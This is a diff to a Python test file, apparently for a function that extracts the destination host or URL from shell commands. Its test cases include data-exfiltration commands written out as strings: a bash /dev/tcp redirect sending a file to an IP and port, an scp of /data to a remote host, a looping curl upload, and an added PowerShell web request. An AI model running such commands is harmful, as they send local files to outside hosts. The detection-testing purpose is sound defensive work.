@@ -50,6 +50,7 @@ def test_an_account_is_a_domains_a_hosts_or_nobodys(host, user, account, domain_
         ("bash -c 'cat x >/dev/tcp/203.0.113.9/4444'", "203.0.113.9:4444"),
         ("scp -r /data anna@files.example:/in", "anna@files.example:/in"),
         ("while true; do curl -T a http://files.example/in; done", "http://files.example/in"),
+        ('powershell "$u = \\"https://files.example\\"; iwr $u"', "https://files.example"),
         ("tar cf a.tar /home", None),
     ],
 )
